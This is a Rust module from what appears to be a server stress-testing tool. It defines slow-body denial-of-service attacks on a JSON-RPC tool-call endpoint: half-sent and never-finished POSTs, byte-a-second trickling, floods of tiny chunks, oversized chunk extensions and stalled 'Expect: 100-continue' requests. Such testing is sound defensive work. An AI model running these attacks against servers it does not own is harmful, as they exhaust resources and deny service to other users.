//! Bodies that arrive slowly, in pieces, or not at all.

use std::fmt::Write as _;
use std::time::Duration;

use anyhow::Result;

use super::{Attack, crowd};
use crate::http::{chunked_head, post_head};
use crate::messages::{call, modern, modern_headers};
use crate::peer::Peer;
use crate::target::Target;

pub(super) const ATTACKS: &[Attack] = &[
    Attack::new("half-bodies", "1,024 POSTs with half a body", |target| {
        Box::pin(half(target, 1_024))
    })
    .lasting(700, 8_000)
    .long_only(),
    Attack::new(
        "half-bodies-many",
        "4,096 POSTs with half a body, each from another address",
        |target| Box::pin(half(target, 4_096)),
    )
    .lasting(1_200, 8_000)
    .by_many(),
    Attack::new(
        "large-half-bodies",
        "100 POSTs with 4 MiB of a body and no end",
        |target| Box::pin(large(target)),
    )
    .lasting(700, 8_000),
    Attack::new(
        "slow-bodies",
        "1,024 POSTs with one byte of the body a second",
        |target| Box::pin(slow(target)),
    )
    .long_only()
    .lasting(700, 12_000)
    .by_many(),
    Attack::new(
        "tiny-chunks",
        "bodies of 200,000 chunks, one byte each",
        |target| Box::pin(chunks(target, 1, "")),
    )
    .one_at_a_time()
    .lasting(500, 5_000),
    Attack::new(
        "chunk-extensions",
        "chunks with extensions of 4 KiB",
        |target| Box::pin(chunks(target, 100, ";x=yyyyyyyyyyyy")),
    )
    .long_only()
    .one_at_a_time()
    .lasting(500, 5_000),
    Attack::new(
        "expect-continue",
        "1,024 POSTs that wait for `100 Continue` and send no body",
        |target| Box::pin(expect(target)),
    )
    .long_only()
    .lasting(700, 8_000),
];

/// Headers of a call, and its body.
fn request(target: &Target) -> (String, String) {
    let tool = target.tool();
    let body = modern("1", "tools/call", &call(&tool.name, &tool.arguments));
    (modern_headers("tools/call", Some(&tool.name)), body)
}

async fn half(target: Target, peers: usize) -> Result<()> {
    crowd(target, peers, |target, number| async move {
        let (headers, body) = request(&target);
        let mut bytes = target.post(&headers, &body);
        bytes.truncate(bytes.len() - body.len() / 2);
        let mut peer = Peer::open(&target, number).await?;
        peer.send(&bytes).await?;
        peer.receive().await?;
        Ok(())
    })
    .await
}

async fn large(target: Target) -> Result<()> {
    crowd(target, 100, |target, number| async move {
        let (headers, _) = request(&target);
        let mut peer = Peer::open(&target, number).await?;
        peer.send(&post_head(target.host(), target.path(), &headers, 4 << 20))
            .await?;
        for _ in 0..504 {
            peer.send(&[b' '; 8 << 10]).await?;
            tokio::time::sleep(Duration::from_millis(1)).await;
        }
        peer.receive().await?;
        Ok(())
    })
    .await
}

async fn slow(target: Target) -> Result<()> {
    crowd(target, 1_024, |target, number| async move {
        let (headers, body) = request(&target);
        let mut peer = Peer::open(&target, number).await?;
        peer.send(&post_head(
            target.host(),
            target.path(),
            &headers,
            body.len(),
        ))
        .await?;
        peer.trickle(body.as_bytes(), Duration::from_secs(1))
            .await?;
        peer.receive().await?;
        Ok(())
    })
    .await
}

async fn chunks(target: Target, size: usize, extension: &'static str) -> Result<()> {
    let (headers, body) = request(&target);
    let mut bytes = chunked_head(target.host(), target.path(), &headers);
    let extension = extension.repeat(250);
    let mut text = String::new();
    // White space before the message makes the body as long as needed.
    for _ in 0..200_000 / size {
        let _ = write!(text, "{size:x}{extension}\r\n{:size$}\r\n", "");
    }
    let _ = write!(text, "{:x}\r\n{body}\r\n0\r\n\r\n", body.len());
    bytes.extend_from_slice(text.as_bytes());
    super::volley(target, 5, vec![bytes]).await
}

async fn expect(target: Target) -> Result<()> {
    crowd(target, 1_024, |target, number| async move {
        let (headers, body) = request(&target);
        let headers = format!("{headers}Expect: 100-continue\r\n");
        let mut peer = Peer::open(&target, number).await?;
        peer.send(&post_head(
            target.host(),
            target.path(),
            &headers,
            body.len(),
        ))
        .await?;
        peer.drain().await
    })
    .await
}
